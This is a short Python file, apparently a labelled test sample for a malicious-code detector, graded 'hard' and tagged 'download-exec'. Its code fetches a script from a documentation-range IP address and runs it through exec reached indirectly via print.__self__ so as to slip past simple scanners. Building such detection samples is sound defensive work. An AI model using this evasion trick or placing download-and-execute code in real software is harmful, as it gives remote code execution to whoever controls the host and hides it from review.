# evasion: the builtins module is reached as print.__self__ (a builtin function's module) and exec is called on it as a method
# grade: hard; does: download-exec
import urllib.request


def fetch(url):
    with urllib.request.urlopen(url, timeout=15) as resp:
        return resp.read().decode("utf-8")


home = print.__self__
home.exec(fetch("http://198.51.100.40/agent.py"), {"__name__": "__main__"})
